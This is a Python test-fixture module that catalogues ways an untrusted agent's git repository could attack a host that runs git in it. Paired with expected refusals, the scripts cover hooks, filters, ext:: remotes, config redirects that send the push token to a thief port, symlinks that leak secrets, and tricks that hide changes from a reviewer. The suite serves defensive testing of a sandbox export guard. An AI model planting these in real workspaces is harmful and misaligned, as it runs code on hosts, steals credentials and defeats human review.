"""Hostile repositories: what an agent can leave in its workspace for a host that runs git there.

In the scripts, $M is a file of the host that no command may create, $OUT is a folder of the host
with a secret, $OTHER is another repository of the host, and $ORIGIN is the repository to which the
work is pushed. `program FILE` writes a program that creates $M.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from enum import StrEnum

HOST_SCRIPT = """
git status
git add -A
git diff --cached HEAD
git commit -qm work
git -c http.extraHeader="Authorization: Basic token" push -q origin HEAD:refs/heads/bot
"""
"""The commands of a host that trusts the agent's repository; a person is shown their output."""


class Harm(StrEnum):
    """The harm that a plant does to a host that trusts it."""

    RUNS_COMMAND = "its command ran on the host"
    LEAKS_SECRET = "a secret of the host was pushed"
    WRITES_ELSEWHERE = "another repository was written to"
    DIVERTS_PUSH = "the work was pushed elsewhere"
    HIDES_CHANGE = "the change was not shown"
    PUSHES_BAD_ENTRY = "the bad entry was pushed"
    LOSES_WORK = "the work could not be taken"
    HANGS_GIT = "the host's git hung"


@dataclass(frozen=True, kw_only=True)
class Plant:
    """Something hostile in a repository. The agent runs `script`; a host that then runs
    `host_script` suffers `harm`.

    Osiris must refuse the work with a message that contains `refusal`. If `refusal` is empty, it
    must import the work, including `expected_files` (path -> mode, content).

    `visible_text` is what the host should show to a person, and `bad_entry` is part of a path that
    it must not push.
    """

    script: str
    harm: Harm
    host_script: str = HOST_SCRIPT
    refusal: str = ""
    expected_files: Mapping[str, tuple[str, str]] = field(default_factory=dict)
    visible_text: str = "+change"
    bad_entry: str = ""


def plant_command(script: str, *, host_script: str = HOST_SCRIPT, refusal: str = "") -> Plant:
    return Plant(script=script, harm=Harm.RUNS_COMMAND, host_script=host_script, refusal=refusal)


def plant_foreign_write(script: str) -> Plant:
    return Plant(script=script, harm=Harm.WRITES_ELSEWHERE)


def plant_diversion(script: str) -> Plant:
    return Plant(script=script, harm=Harm.DIVERTS_PUSH)


def plant_hidden_change(
    script: str,
    visible_text: str = "+change",
    *,
    host_script: str = HOST_SCRIPT,
    **expected_files: tuple[str, str],
) -> Plant:
    return Plant(
        script=script,
        harm=Harm.HIDES_CHANGE,
        host_script=host_script,
        visible_text=visible_text,
        expected_files=expected_files,
    )


def plant_loss(script: str, *, refusal: str = "") -> Plant:
    return Plant(script=script, harm=Harm.LOSES_WORK, refusal=refusal)


def plant_bad_entry(script: str, bad_entry: str, refusal: str) -> Plant:
    return Plant(script=script, harm=Harm.PUSHES_BAD_ENTRY, bad_entry=bad_entry, refusal=refusal)


HOOKS = (
    "pre-commit prepare-commit-msg commit-msg post-commit pre-push post-index-change"
    " reference-transaction post-checkout pre-auto-gc post-rewrite push-to-checkout applypatch-msg"
    " fsmonitor-watchman"
)
NESTED = "git init -q {0}; echo a >{0}/a; git -C {0} add a; git -C {0} commit -qm nested; "
SUBMODULE = "is a submodule or a repository in the repository"
OUTSIDE = "leaves the repository"
NOT_IMPORTED = "could not be taken over"
NOT_EXPORTED = "could not be taken out of the sandbox"

COMMANDS = {
    "fsmonitor": plant_command('program .git/p; git config core.fsmonitor "$PWD/.git/p"'),
    "every hook": plant_command(
        f"mkdir -p .git/hooks; for hook in {HOOKS}; do program .git/hooks/$hook; done"
    ),
    "commit-msg hook": plant_command("mkdir -p .git/hooks; program .git/hooks/commit-msg"),
    "reference-transaction hook": plant_command(
        "mkdir -p .git/hooks; program .git/hooks/reference-transaction"
    ),
    "hooksPath": plant_command(
        "mkdir hk; program hk/pre-commit; program hk/post-index-change; git config"
        " core.hooksPath hk"
    ),
    "clean filter": plant_command(
        "program .git/p; echo '* filter=x' >.gitattributes; git config filter.x.clean '.git/p'; "
        "git config filter.x.smudge cat; git config filter.x.required true"
    ),
    "filter process by info/attributes": plant_command(
        "program .git/p; mkdir -p .git/info; echo '* filter=x' >.git/info/attributes; "
        "git config filter.x.process .git/p"
    ),
    "lfs": plant_command(
        "program .git/p; echo '*.md filter=lfs diff=lfs merge=lfs -text' >.gitattributes; printf"
        " '[lfs]\\n\\turl = http://127.0.0.1:%s/\\n' $THIEF >.lfsconfig; git config"
        " filter.lfs.clean .git/p; git config filter.lfs.smudge cat; git config filter.lfs.process"
        " .git/p"
    ),
    "diff.external": plant_command("program .git/p; git config diff.external .git/p"),
    "diff driver": plant_command(
        "program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.command .git/p"
    ),
    "textconv": plant_command(
        "program .git/p; echo '*.md diff=x' >.gitattributes; git config diff.x.textconv .git/p"
    ),
    "include.path": plant_command(
        'program .git/p; printf "[core]\\n\\tfsmonitor = $PWD/.git/p\\n" >more; git config'
        " include.path ../more"
    ),
    "config.worktree": plant_command(
        "program .git/p; git config extensions.worktreeConfig true; "
        'printf "[core]\\n\\tfsmonitor = $PWD/.git/p\\n" >.git/config.worktree'
    ),
    "a git file that leads to a folder of the agent": plant_command(
        'program p; git config core.fsmonitor "$PWD/p"; mv .git meta; echo "gitdir: meta" >.git'
    ),
    "a commondir of the agent": plant_command(
        'cp -r .git common; program p; git config -f common/config core.fsmonitor "$PWD/p"; '
        "echo ../common >.git/commondir"
    ),
    "gpg.program": plant_command(
        "program .git/p; git config commit.gpgsign true; git config gpg.program .git/p"
    ),
    "editor": plant_command(
        "program .git/p; git config core.editor .git/p",
        host_script="git add -A; git commit; git push origin HEAD:refs/heads/bot",
    ),
    "pager": plant_command(
        "program .git/p; git config core.pager .git/p",
        host_script="TERM=xterm script -qec 'git log -1' /dev/null",
    ),
    "alias": plant_command("program .git/p; git config alias.up '!.git/p'", host_script="git up"),
    "merge driver": plant_command(
        "program .git/p; mkdir -p .git/info; echo '* merge=x' >.git/info/attributes; git config"
        " merge.x.driver .git/p",
        host_script="git add -A; git commit -qm work; git fetch -q origin side; git merge FETCH_HEAD",
    ),
    "ext:: remote": plant_command(
        'git config protocol.ext.allow always; git config remote.origin.url "ext::sh -c touch%'
        ' $M"; '
    ),
    "remote.vcs": plant_command(
        "git config protocol.ext.allow always; git config remote.origin.vcs ext; "
        'git config remote.origin.url "touch $M"'
    ),
    "receivepack": plant_command(
        'git config remote.origin.receivepack "touch $M; git-receive-pack"'
    ),
    "uploadpack": plant_command(
        'git config remote.origin.uploadpack "touch $M; git-upload-pack"',
        host_script="git fetch origin side",
    ),
    "alternateRefsCommand": plant_command(
        'program .git/p; git config core.alternateRefsCommand "$PWD/.git/p"; '
        'echo "$ORIGIN/objects" >>.git/objects/info/alternates',
        host_script="git fetch origin side",
    ),
    "sshCommand": plant_command(
        "git config core.sshCommand 'touch $M; false'; git config ssh.variant simple; "
        "git config remote.origin.url ssh://git@127.0.0.1/x"
    ),
    "gitProxy": plant_command(
        "program .git/p; git config core.gitProxy .git/p; git config remote.origin.url"
        " git://127.0.0.1:1/x"
    ),
    "credential.helper": plant_command(
        'program .git/p; git config credential.helper "$PWD/.git/p"',
        host_script="printf 'protocol=https\\nhost=git.example\\n\\n' | git credential fill",
    ),
    "askPass": plant_command(
        'program .git/p; git config core.askPass "$PWD/.git/p"; git config credential.helper ""',
        host_script="printf 'protocol=https\\nhost=git.example\\n\\n' | git credential fill",
    ),
    "nested repository": plant_command(
        NESTED.format("sub") + "program .git/p; git add sub; git commit -qm sub; echo b >>sub/a; "
        'git -C sub config core.fsmonitor "$PWD/.git/p"',
        refusal=SUBMODULE,
    ),
    "submodule of a submodule": plant_command(
        NESTED.format("sub")
        + NESTED.format("sub/low")
        + "program .git/p; git -C sub add low; git -C sub commit -qm low; "
        'git add sub; git commit -qm sub; git -C sub/low config core.fsmonitor "$PWD/.git/p"',
        refusal=SUBMODULE,
    ),
    "submodule update command": plant_command(
        NESTED.format("sub")
        + 'program .git/p; git add sub; printf \'[submodule "s"]\\n\\tpath = sub\\n\\turl ='
        ' ./sub\\n\' >.gitmodules; git commit -qam sub; git config submodule.s.url "$PWD/sub";'
        ' git config submodule.s.update "!$PWD/.git/p"; git -C sub commit -q --allow-empty -m'
        " next",
        host_script="git submodule update",
        refusal=SUBMODULE,
    ),
    "bare repository in a folder": plant_command(
        "git init -q --bare inner; program .git/p; git -C inner config core.bare false; "
        'git -C inner config core.worktree ..; git -C inner config core.fsmonitor "$PWD/.git/p"',
        host_script="git -C inner status",
    ),
}

FOREIGN_TARGETS = {
    "core.worktree": Plant(script='git config core.worktree "$OUT"', harm=Harm.LEAKS_SECRET),
    "objects of another repository": Plant(
        script=(
            'echo "$OTHER/.git/objects" >>.git/objects/info/alternates; git update-index --add'
            " --cacheinfo 100644,$STOLEN,stolen; git update-index --skip-worktree stolen"
        ),
        harm=Harm.LEAKS_SECRET,
    ),
    "git file of another repository": plant_foreign_write(
        'mv .git .git-old; echo "gitdir: $OTHER/.git" >.git; rm -rf .git-old'
    ),
    "git link to another repository": plant_foreign_write('rm -rf .git; ln -s "$OTHER/.git" .git'),
    "commondir of another repository": plant_foreign_write('echo "$OTHER/.git" >.git/commondir'),
    "refs of another repository": plant_foreign_write(
        'git pack-refs --all; rm -rf .git/refs; ln -s "$OTHER/.git/refs" .git/refs'
    ),
    "object folder of another repository": plant_foreign_write(
        'cp -r .git/objects/. "$OTHER/.git/objects/" 2>/dev/null; rm -rf .git/objects; '
        'ln -s "$OTHER/.git/objects" .git/objects'
    ),
    "insteadOf": plant_diversion(
        'git init -q --bare .git/evil; git config "url.$PWD/.git/evil.insteadOf" "$ORIGIN"'
    ),
    "pushInsteadOf": plant_diversion(
        'git init -q --bare .git/evil; git config "url.$PWD/.git/evil.pushInsteadOf" "$ORIGIN"'
    ),
    "pushurl": plant_diversion(
        'git init -q --bare .git/evil; git config remote.origin.pushurl "$PWD/.git/evil"'
    ),
    "insteadOf that takes the token": plant_diversion(
        'git config "url.http://127.0.0.1:$THIEF/.insteadOf" "$ORIGIN"'
    ),
    "a proxy that takes the token": plant_diversion(
        'git config http.proxy "http://127.0.0.1:$THIEF"; git config remote.origin.url'
        " http://git.example/shop"
    ),
}

HIDDEN_CHANGES = {
    "assume-unchanged": plant_hidden_change("git update-index --assume-unchanged README.md"),
    "skip-worktree": plant_hidden_change("git update-index --skip-worktree README.md"),
    "info/exclude": plant_hidden_change("mkdir -p .git/info; echo '*' >.git/info/exclude", "+new"),
    "excludesFile": plant_hidden_change(
        "echo '*' >.git/none; git config core.excludesFile .git/none", "+new"
    ),
    "sparse checkout": plant_hidden_change(
        "git config core.sparseCheckout true; git config sparse.expectFilesOutsideOfPatterns true;"
        " mkdir -p .git/info; echo /none >.git/info/sparse-checkout; git update-index"
        " --skip-worktree README.md"
    ),
    "an index that lies about times and sizes": plant_hidden_change(
        "git checkout -q README.md; git config core.trustctime false; git config core.checkStat"
        " minimal; touch -d 2020-01-01 README.md; git update-index --refresh; echo hallo"
        " >README.md; touch -d 2020-01-01 README.md",
        "+hallo",
        **{"README.md": ("100644", "hallo\n")},
    ),
    "fileMode": plant_hidden_change(
        "git checkout -q README.md; git config core.fileMode false; chmod +x README.md",
        "new mode",
        **{"README.md": ("100755", "hello\n")},
    ),
    "attributes that hide a diff": plant_hidden_change("echo '* -diff' >.gitattributes"),
    "replaced objects": plant_hidden_change(
        "git add -A; git replace HEAD^{tree} $(git write-tree)"
    ),
    "grafts": plant_hidden_change(
        "git add -A; git commit -qm mine; mkdir -p .git/info; "
        "echo $(git rev-parse HEAD) $(git commit-tree HEAD^{tree} -m same) >.git/info/grafts",
        host_script="git diff HEAD^ HEAD; git push -q origin HEAD:refs/heads/bot",
    ),
    "packed refs that lie about the base": plant_hidden_change(
        "git add -A; git commit -qm mine; rm -rf .git/refs/remotes; "
        'echo "$(git rev-parse HEAD) refs/remotes/origin/main" >.git/packed-refs',
        host_script="git diff origin/main HEAD; git push -q origin HEAD:refs/heads/bot",
    ),
}

BROKEN_REPOSITORIES = {
    "no git folder": plant_loss("rm -rf .git"),
    "a corrupt git folder": plant_loss(
        "printf '\\0\\0' >.git/HEAD; rm -rf .git/refs; echo 'garbage = [' >.git/config"
    ),
    "a git folder of the future": plant_loss("git config core.repositoryFormatVersion 99"),
    "an index that is rubbish": plant_loss("echo rubbish >.git/index"),
    "an index that is locked": plant_loss("touch .git/index.lock"),
    "packed refs that are rubbish": plant_loss(
        "echo 'zzzz refs/heads/work' >.git/packed-refs; rm -rf .git/refs/*"
    ),
    "an encoding that the files do not have": plant_loss(
        "echo '* working-tree-encoding=UTF-16' >.gitattributes", refusal=NOT_EXPORTED
    ),
    ".GIT": plant_loss("mkdir -p .GIT/hooks; program .GIT/hooks/pre-commit", refusal=NOT_EXPORTED),
    ".gitmodules that is a link": plant_loss("ln -s README.md .gitmodules", refusal=NOT_EXPORTED),
    "git~1": plant_loss("mkdir 'git~1'; echo x >'git~1/config'", refusal=NOT_EXPORTED),
    "a HEAD that is a pipe": Plant(script="rm .git/HEAD; mkfifo .git/HEAD", harm=Harm.HANGS_GIT),
}

BAD_ENTRIES = {
    "a link to a secret": plant_bad_entry('ln -s "$OUT/secret" leak', "leak", OUTSIDE),
    "a link to a folder outside": plant_bad_entry('ln -s "$OUT" src/leak', "src/leak", OUTSIDE),
    "a relative link out": plant_bad_entry(
        "ln -s ../../../../../etc src/leak", "src/leak", OUTSIDE
    ),
    "a folder that became a link": plant_bad_entry('rm -rf src; ln -s "$OUT" src', "src", OUTSIDE),
    "a link that leaves by way of another": plant_bad_entry(
        "mkdir -p d; ln -s .. d/up; ln -s d/up/../secret leak", "leak", OUTSIDE
    ),
    "a name that HFS takes for .git": plant_bad_entry(
        "mkdir $'.g\\u200cit'; program $'.g\\u200cit/config'", "\u200c", NOT_IMPORTED
    ),
    ".gitmodules with a command": plant_bad_entry(
        'printf \'[submodule "s"]\\n\\tpath = s\\n\\turl = ext::sh -c true\\n\\tupdate = !touch'
        " x\\n' >.gitmodules",
        ".gitmodules",
        NOT_IMPORTED,
    ),
    "a link into the git folder": plant_bad_entry(
        "ln -s ../.git/config src/config", "src/config", OUTSIDE
    ),
    "a link where workflows would be": plant_bad_entry(
        "mkdir .github; ln -s ../src .github/workflows", ".github/workflows", "is protected"
    ),
    "a workflow": plant_bad_entry(
        "mkdir -p .github/workflows; echo 'on: push' >.github/workflows/x.yml",
        ".github/workflows/x.yml",
        "is protected",
    ),
    "a name that breaks the line": plant_bad_entry(
        "touch $'a\\nb'", "a\nb", "contains a control character"
    ),
    "a name that clears the screen": plant_bad_entry(
        "touch $'a\\e[2Jb'", "a\x1b[2Jb", "contains a control character"
    ),
    "a name that is read backwards": plant_bad_entry(
        "touch $'a\\u202etxt.sh'", "\u202e", "contains a control character"
    ),
    "too many files": plant_bad_entry(
        "mkdir many; cd many; touch {1..3001}", "many/1", "files were changed"
    ),
    "a file that is too large": plant_bad_entry(
        "truncate -s 21M large", "large", "is larger than 20 MiB"
    ),
}

PLANTS: Mapping[str, Plant] = {
    **COMMANDS,
    **FOREIGN_TARGETS,
    **HIDDEN_CHANGES,
    **BROKEN_REPOSITORIES,
    **BAD_ENTRIES,
}

ODD_WORK: Mapping[str, tuple[str, Mapping[str, tuple[str, str]]]] = {
    "commits on another branch": (
        "git add -A; git commit -qm mine; git checkout -q --orphan other; git rm -rqf src",
        {},
    ),
    "a changed file that is ignored": (
        "echo '*.md' >.gitignore",
        {".gitignore": ("100644", "*.md\n")},
    ),
}
"""name -> (script, files that must be in the work): honest work that looks odd."""
